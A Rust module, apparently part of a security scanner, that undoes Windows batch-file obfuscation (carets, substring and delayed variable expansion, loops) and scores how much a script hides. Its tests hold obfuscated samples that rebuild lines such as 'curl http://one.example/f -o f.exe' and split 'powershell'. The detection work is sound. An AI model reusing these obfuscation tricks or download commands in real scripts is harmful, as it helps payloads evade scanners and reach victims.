//! Batch files: carets that mean nothing, and variables put in, whole or in part, line by line.

mod lines;
mod values;

use std::collections::{BTreeMap, HashMap, HashSet};

use crate::budget::Budget;
use crate::limits::MAX_LAYER;
use crate::peel::{Rewrite, Technique};
use crate::script::{ENOUGH, Hosts, not_shown};
use lines::{
    Loop, MAX_NAME, Names, behind_set, commands, is_delayed_command, is_open, is_run_delayed, name_of, names_set,
    own_names,
};
use values::{KNOWN, MAX_VALUE, cut, replaced};

/// Commands out of variables that are looked at.
const MAX_COMMANDS: usize = 16;

#[derive(Default)]
struct Run {
    /// The file in lower case.
    lower: String,
    is_delayed: bool,
    /// Blocks in parentheses that are open.
    depth: i32,
    variables: HashMap<String, String>,
    /// All that have or had a value.
    named: HashSet<String>,
    steps: BTreeMap<Technique, usize>,
    weight: usize,
    /// Commands out of variables so far.
    commands: usize,
}

pub fn undo(text: &str, budget: &mut Budget) -> Rewrite {
    let (telling, mut hosts) = (not_shown(text), Hosts::default());
    let lower = text.to_ascii_lowercase();
    let mut run = Run { lower, is_delayed: is_run_delayed(text), ..Run::default() };
    let mut done = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        if !budget.spend(line.len() / 4 + 1) || done.len() > MAX_LAYER {
            return Rewrite::default();
        }
        let plain = run.line(line, budget);
        match Loop::of(&plain) {
            Some(each) => run.repeat(&each, budget),
            None => run.assign(&plain, budget),
        }
        run.delay(&plain);
        let is_new = run.weight < ENOUGH && plain != line && {
            let lower = plain.to_ascii_lowercase();
            telling.iter().any(|telling| lower.contains(telling)) || hosts.are_joined_in(text, &plain)
        };
        run.weight += if is_new { ENOUGH } else { 0 };
        done.push_str(&plain);
    }
    let steps = run.steps.into_iter().collect();
    let changed = Some(done).filter(|done| done != text);
    if run.weight < ENOUGH {
        return Rewrite { slight: changed, steps, ..Rewrite::default() };
    }
    Rewrite { text: changed, steps, ..Rewrite::default() }
}

impl Run {
    /// A line as it is run.
    fn line(&mut self, line: &str, budget: &mut Budget) -> String {
        let called = self.called(line, budget);
        let expanded = called.unwrap_or_else(|| self.expand(line, '%', &Names::default(), budget));
        let plain = self.without_carets(&expanded);
        if !self.is_delayed {
            return plain;
        }
        let own = own_names(&plain);
        let delayed = self.expand(&plain, '!', &own, budget);
        if is_delayed_command(&plain) && delayed != plain && self.commands < MAX_COMMANDS {
            self.commands += 1;
            self.weight += if self.is_program_shown(&delayed, budget) { 0 } else { 150 };
        }
        delayed
    }

    /// Whether the program of a command stands anywhere in the file. Who puts its name together hides it.
    fn is_program_shown(&self, command: &str, budget: &mut Budget) -> bool {
        let program = command.split_ascii_whitespace().next().unwrap_or_default().to_ascii_lowercase();
        !budget.spend(self.lower.len() / 16 + 1) || self.lower.contains(&program)
    }

    /// `call` reads its line twice: `%%name%%` is a variable the second time.
    fn called(&mut self, line: &str, budget: &mut Budget) -> Option<String> {
        let command = line.trim_start_matches(['@', ' ', '\t']);
        let rest = command.get(..5).filter(|word| word.eq_ignore_ascii_case("call ")).map(|_| &command[5..])?;
        let program =
            rest.trim_start().split(char::is_whitespace).next().filter(|program| program.starts_with("%%"))?;
        let plain = rest.replace("%%", "%");
        let expanded = self.expand(&plain, '%', &Names::default(), budget);
        if expanded == plain {
            return None;
        }
        // A name of two halves that are words is no folder and what is in it.
        self.weight += if program.contains("%%%%") { 100 } else { 0 };
        Some(format!("{}{expanded}", &line[..line.len() - rest.len()]))
    }

    /// `for %%a in (2,1,0) do set name=...`: the value that the variable has behind it.
    fn repeat(&mut self, each: &Loop<'_>, budget: &mut Budget) {
        if self.depth > 0 {
            self.lose(&each.name.replace(&each.counter, "%"), budget);
            return;
        }
        // What was never set is empty.
        if self.is_delayed && !each.name.contains(&each.counter) && !self.named.contains(&each.name.to_lowercase()) {
            self.set(&format!("{}=", each.name), false, budget);
        }
        for item in &each.items {
            let made = each.with(item).filter(|(name, value)| budget.spend((name.len() + value.len()) / 8 + 1));
            let Some((name, value)) = made else {
                self.lose(&each.name.replace(&each.counter, "%"), budget);
                continue;
            };
            let value = if self.is_delayed { self.expand(&value, '!', &Names::default(), budget) } else { value };
            self.set(&format!("{name}={value}"), false, budget);
        }
    }

    /// Its value is not known from here on; if its name is not known to its end, none that it may be.
    fn lose(&mut self, name: &str, budget: &mut Budget) {
        let name = name.to_lowercase();
        if is_open(&name) {
            let (first, last) = (name.split(['%', '!']).next(), name.rsplit(['%', '!']).next());
            let (first, last) = (first.unwrap_or_default(), last.unwrap_or_default());
            // Without the means to look at all of them, none is known.
            let can_look = budget.spend(self.variables.len() / 8 + 1);
            self.variables.retain(|known, _| can_look && !(known.starts_with(first) && known.ends_with(last)));
        }
        self.variables.remove(&name);
        self.named.insert(name);
    }

    /// Whether variables between exclamation marks are put in from here on.
    fn delay(&mut self, line: &str) {
        let lower = line.to_ascii_lowercase();
        let command = lower.trim_start_matches(['@', ' ', '\t', '(']);
        if command.starts_with("setlocal") && lower.contains("enabledelayedexpansion") || lower.contains("/v:on") {
            self.is_delayed = true;
        } else if command.starts_with("endlocal")
            || command.starts_with("setlocal") && lower.contains("disabledelayedexpansion")
        {
            // What was before an outer `setlocal` is not kept: then nothing is put in.
            self.is_delayed = false;
        }
    }

    fn count(&mut self, technique: Technique, weight: usize) {
        *self.steps.entry(technique).or_default() += 1;
        self.weight += weight;
    }

    /// With the variables that are known put in, which stand between two of `mark`, but for those that change.
    fn expand(&mut self, line: &str, mark: char, changing: &Names, budget: &mut Budget) -> String {
        let mut done = String::with_capacity(line.len());
        let mut rest = line;
        while let Some(at) = rest.find(mark) {
            done.push_str(&rest[..at]);
            rest = &rest[at..];
            let inner = &rest[1..];
            let Some(end) = inner.find(mark).filter(|&end| end > 0 && end < MAX_NAME) else {
                // `%%` and arguments.
                let length = 1 + usize::from(inner.starts_with(mark));
                done.push_str(&rest[..length]);
                rest = &rest[length..];
                continue;
            };
            let reference = &inner[..end];
            let name = name_of(reference);
            match self.value(reference).filter(|_| !changing.may_be(&name)) {
                Some((value, technique))
                    if budget.spend(value.len() / 8 + 1) && done.len() + value.len() <= MAX_LAYER =>
                {
                    done.push_str(&value);
                    rest = &inner[end + 1..];
                    self.count(technique, self.hiding(&name, &value, technique));
                }
                _ => {
                    done.push(mark);
                    rest = inner;
                }
            }
        }
        done.push_str(rest);
        done
    }

    /// How much it hides. A letter from a variable is hidden; a name that is used twice is not.
    fn hiding(&self, name: &str, value: &str, technique: Technique) -> usize {
        let is_word = value.bytes().all(|byte| byte.is_ascii_alphabetic());
        let length = value.chars().count();
        match technique {
            // A drive or a folder is what these are cut for; a few letters of them, to write another word.
            Technique::Substring if !self.variables.contains_key(name) => match (is_word, length) {
                (true, ..=4) => 100,
                (false, ..=2) => 25,
                _ => 0,
            },
            // A part of a version or a date is longer, or has other signs.
            Technique::Substring => {
                if is_word && length <= 3 || length == 1 {
                    50
                } else {
                    20
                }
            }
            Technique::Replace => 40,
            _ if length <= 2 => 30,
            _ => 0,
        }
    }

    /// `name`, `name:~start,length` or `name:from=to`.
    fn value(&self, reference: &str) -> Option<(String, Technique)> {
        let (name, change) = reference.split_once(':').map_or((reference, None), |(name, change)| (name, Some(change)));
        let name = name.to_lowercase();
        let own = self.variables.get(&name).map(String::as_str);
        let known = || KNOWN.iter().find(|known| known.0 == name).map(|known| known.1);
        match change {
            None => Some((own?.to_owned(), Technique::ConstantVariable)),
            Some(change) => match change.strip_prefix('~') {
                Some(range) => Some((cut(own.or_else(known)?, range)?, Technique::Substring)),
                None => {
                    let (from, to) = change.split_once('=')?;
                    (!from.is_empty() && !from.starts_with('*')).then_some(())?;
                    Some((replaced(own?, from, to), Technique::Replace))
                }
            },
        }
    }

    /// A caret stands before what it protects; before a letter it protects nothing.
    fn without_carets(&mut self, line: &str) -> String {
        let is_idle = |pair: &[u8]| {
            pair[0] == b'^'
                && (pair[1].is_ascii_alphanumeric() || matches!(pair[1], b'.' | b'-' | b'/' | b'\\' | b':' | b'_'))
        };
        let bytes = line.as_bytes();
        if !bytes.windows(2).any(is_idle) {
            return line.to_owned();
        }
        let mut done = String::with_capacity(line.len());
        let (mut quoted, mut letters, mut before) = (false, line.chars().peekable(), ' ');
        while let Some(letter) = letters.next() {
            quoted ^= letter == '"';
            if letter == '^' && !quoted {
                let next = letters.peek().copied().unwrap_or('\n');
                if next.is_ascii_alphanumeric() || matches!(next, '.' | '-' | '/' | '\\' | ':' | '_') {
                    // A face or a formula has one, too: what is cut is a word.
                    let is_in_word = before.is_ascii_alphabetic() && next.is_ascii_alphabetic();
                    self.count(Technique::Caret, if is_in_word { 40 } else { 0 });
                    continue;
                }
                done.push(letter);
                if let Some(next) = letters.next() {
                    done.push(next);
                }
                continue;
            }
            done.push(letter);
            before = letter;
        }
        done
    }

    /// `set name=value`, also behind `&&`. What is only set under a condition, or in a block, is not known.
    fn assign(&mut self, line: &str, budget: &mut Budget) {
        for command in commands(line.trim_end_matches(['\r', '\n'])) {
            let begun = command.trim_start_matches([' ', '\t', '@', '(']);
            let in_parentheses = command[..command.len() - begun.len()].contains('(');
            self.depth += i32::from(in_parentheses && !command.trim_end().ends_with(')'));
            match behind_set(begun) {
                Some(rest) if self.depth == 0 => self.set(rest, in_parentheses, budget),
                is_set => {
                    for name in names_set(begun) {
                        self.lose(&name, budget);
                    }
                    let opens = is_set.is_none() && !in_parentheses && begun.trim_end().ends_with('(');
                    self.depth += i32::from(opens);
                }
            }
            if !in_parentheses && begun.starts_with(')') || self.depth > 0 && begun.trim_end().ends_with(')') {
                self.depth = (self.depth - 1).max(0);
            }
        }
    }

    fn set(&mut self, rest: &str, in_parentheses: bool, budget: &mut Budget) {
        let rest = rest.trim_start();
        if rest.starts_with('/') {
            // Computed or asked for.
            for name in names_set(&format!("set {rest}")) {
                self.lose(&name, budget);
            }
            return;
        }
        let rest = match rest.strip_prefix('"') {
            Some(inner) => inner.rsplit_once('"').map_or(inner, |parts| parts.0),
            None if in_parentheses => rest.strip_suffix(')').unwrap_or(rest),
            None => rest,
        };
        let Some((name, value)) = rest.split_once('=') else { return };
        // What is not known in it is not known later; nor what a caret protects.
        if is_open(name) || value.len() > MAX_VALUE || value.contains(['%', '!', '^']) {
            self.lose(name, budget);
        } else {
            self.named.insert(name.to_lowercase());
            self.variables.insert(name.to_lowercase(), value.to_owned());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn undone(text: &str) -> String {
        undo(text, &mut Budget::new(text.len())).text.unwrap_or_default()
    }

    #[test]
    fn carets_and_parts_of_variables_are_undone() {
        assert_eq!(undone("p^o^w^e^r^s^h^e^l^l -c ^\"a\"\r\n"), "powershell -c ^\"a\"\r\n");
        let text = "@echo off\r\nset k=abcdehlorw\r\n%k:~5,1%%k:~4,1%%k:~6,1%%k:~6,1%%k:~7,1% %k:~-1%%k:~7,1%%k:~8,1%%k:~6,1%%k:~3,1%\r\n";
        assert!(undone(text).ends_with("hello world\r\n"), "{}", undone(text));
        assert!(
            undone("set a=hXYlXYlo\r\nset \"b=%a:XY=e%\"\r\necho %b% %a:XY=i% %a:lo=o% %a:h=k% %a:Y=% %a:l=r%")
                .contains("echo helelo")
        );
    }

    #[test]
    fn values_are_those_that_cmd_sees() {
        let letters = "%a:~0,1%%a:~0,1%%a:~0,1%%a:~0,1%%a:~0,1%\r\n";
        let last = |text: &str| undone(&format!("{text}\r\n{letters}echo [%a%]\r\n")).lines().last().map(str::to_owned);
        for (text, value) in [("set a=b &echo x", "[b ]"), ("set \"a=x&y\"", "[x&y]"), ("(set a=b)&&echo", "[b]")] {
            assert_eq!(last(text).as_deref(), Some(format!("echo {value}").as_str()), "{text}");
        }
    }

    #[test]
    fn what_is_set_under_a_condition_is_not_known() {
        let letters = "set k=abc\r\necho %k:~0,1%%k:~0,1%%k:~0,1%%k:~0,1%%k:~0,1%\r\n";
        for text in ["set a=1\r\nif x==%1 set a=2", "set a=1\r\nif x==%1 (\r\nset a=2\r\n)", "set a=x^&y"] {
            let done = undone(&format!("{letters}{text}\r\necho [%a%]\r\n"));
            assert!(done.ends_with("echo [%a%]\r\n"), "{done}");
        }
        let behind = undone(&format!("{letters}if x==%1 (\r\necho\r\n)\r\nset a=2\r\necho [%a%]\r\n"));
        assert!(behind.ends_with("echo [2]\r\n"), "{behind}");
    }

    #[test]
    fn delayed_variables_are_put_in_when_the_line_is_run() {
        let text = "@echo off\r\nsetlocal EnableDelayedExpansion\r\nset a=ht\r\nset b=tp://bad.ex\r\nset c=ample/x\r\n";
        assert!(undone(&format!("{text}curl !a!!b!!c!\r\n")).ends_with("curl http://bad.example/x\r\n"));
        // Without it, they are texts; and what a line sets it may use.
        assert_eq!(undone(&format!("{}curl !a!!b!!c!\r\n", text.replace("Enable", "Disable"))), "");
        let done = undone(&format!("{text}curl !a!!b!!c!\r\nendlocal\r\necho !b!\r\n"));
        assert!(done.ends_with("endlocal\r\necho !b!\r\n"), "{done}");
        let done = undone(&format!("{text}curl !a!!b!!c!\r\nset a=x&curl !a!\r\n"));
        assert!(done.ends_with("set a=x&curl !a!\r\n"), "{done}");
    }

    #[test]
    fn faces_and_formulas_are_no_words() {
        for text in ["Yes ^_^ I did! ^_^ ^_^ ^_^ ^_^ ^_^\r\n", "echo 2^3 x^2 y^2 z^2 a^2 b^2\r\n"] {
            assert_eq!(undone(text), "");
        }
        assert_eq!(undone("s^e^t x=a\r\nc^a^l^l d\r\n"), "set x=a\r\ncall d\r\n");
    }

    #[test]
    fn a_delayed_command_is_put_together() {
        let set = "setlocal EnableDelayedExpansion\r\nset k=cu\r\nset z=!k!rl http://one.example/f -o f.exe\r\n";
        let parts = "set s=abcdef\r\necho !s:~2,2!\r\n";
        let done = undone(&format!("{set}!z!\r\n{parts}"));
        assert!(done.ends_with("\r\ncurl http://one.example/f -o f.exe\r\nset s=abcdef\r\necho cd\r\n"), "{done}");
        // A command that an honest script keeps in a variable, and parts of what it knows.
        let honest = set.replace("set k=cu\r\n", "set k=curl\r\nset v=10.0.19\r\n").replace("!rl", "!");
        assert_eq!(undone(&format!("{honest}echo !v:~0,2! !v:~3,1! %OS:~0,7%\r\n!z!\r\n")), "");
        assert_eq!(undone("set s=\\\\x\\%windir:~3%\r\necho %SystemRoot:~3% %windir:~3% %ProgramFiles:~3,7%\r\n"), "");
    }

    #[test]
    fn a_call_puts_variables_in_twice() {
        let text = "@echo off\r\n%COMSPEC:~-7,3% /c echo hi\r\nset \"a=cal\"\r\nset \"b=c.exe\"\r\ncall %%a%%%%b%%\r\n";
        let done = undone(text);
        assert!(done.contains("\r\ncmd /c echo hi\r\n") && done.ends_with("call calc.exe\r\n"), "{done}");
        assert_eq!(undone("set p=python\r\ncall %%p%% x\r\nset r=%windir:~0,2%\r\n"), "");
    }

    #[test]
    fn a_loop_that_takes_letters_is_run() {
        let text = "set str=lrcu\r\nfor %%a in (2,3,1,0) do set out=!out!!str:~%%a,1!\r\n%out%\r\n";
        assert!(undone(text).ends_with("\r\ncurl\r\n"), "{}", undone(text));
        assert!(undone(&text.replace("do set", "do @set")).is_empty());
        assert!(undone(&format!("setlocal DisableDelayedExpansion\r\n{text}")).is_empty());
    }

    #[test]
    fn what_is_computed_or_set_in_a_loop_is_not_known() {
        let letters =
            "setlocal EnableDelayedExpansion\r\np^o^w^e^r^s^h^e^l^l\r\ns^e^t k=a\r\nset n=1\r\nset m=1\r\nset v1=o\r\n";
        let last = |text: &str| undone(&format!("{letters}{text}\r\n")).lines().last().map(str::to_owned);
        for (text, shown) in [
            ("set /a n+=1\r\necho %n% %m%", "echo %n% 1"),
            ("set /a \"n=2, m-=1\"\r\necho %n% %m%", "echo %n% %m%"),
            ("set /a v%x%=2\r\necho %v1% %m%", "echo %v1% 1"),
            ("set/a n*=2&echo !n! !m!", "set/a n*=2&echo !n! 1"),
            ("set \"a b=1\"\r\nset \"a b=2\"&echo !a b! !m!", "set \"a b=2\"&echo !a b! 1"),
            ("set v!x!=2&echo !n!", "set v!x!=2&echo !n!"),
            ("for %%a in (1 2) do set v%%a=new\r\necho %v1%", "echo new"),
            ("if x==%1 (\r\nfor %%a in (1 2) do set v%%a=new\r\n)\r\necho %v1% %m%", "echo %v1% 1"),
        ] {
            assert_eq!(last(text).as_deref(), Some(shown), "{text}");
        }
    }

    #[test]
    fn what_is_long_has_an_end() {
        let set = "setlocal EnableDelayedExpansion\r\n";
        for text in [
            format!("set x=1\r\necho {}\r\n", "a:~".repeat(200_000)),
            format!("{set}{}&echo !x!\r\n", "set ".repeat(300_000)),
            format!("{set}{}&echo !x!\r\n", "set/a x=".repeat(200_000)),
            format!("set x=1\r\nfor %%a in ({}) do set x={}\r\n", "1 ".repeat(4_000), "%%a".repeat(2_000_000)),
            format!("set x=1\r\nfor %%a in ({}) do set x=%%a%%a\r\n", "1".repeat(1_000_000)),
        ] {
            assert!(undo(&text, &mut Budget::new(text.len())).text.is_none_or(|done| done.len() <= MAX_LAYER));
        }
    }

    #[test]
    fn an_address_in_pieces_is_enough() {
        let done = undone("set a=http\r\nset b=://bad-drop.\r\nset c=example/x\r\ncurl %a%%b%%c%\r\n");
        assert!(done.ends_with("curl http://bad-drop.example/x\r\n"), "{done}");
        assert_eq!(undone("set a=http://one.example\r\ncurl %a%/x\r\n"), "");
    }

    #[test]
    fn what_is_not_known_is_left() {
        let text = "@echo off\r\nset d=%~dp0\r\necho %PATH% %1 %%i %d% ^& ^^ \"a^b\"\r\n";
        assert_eq!(undone(text), "");
    }
}
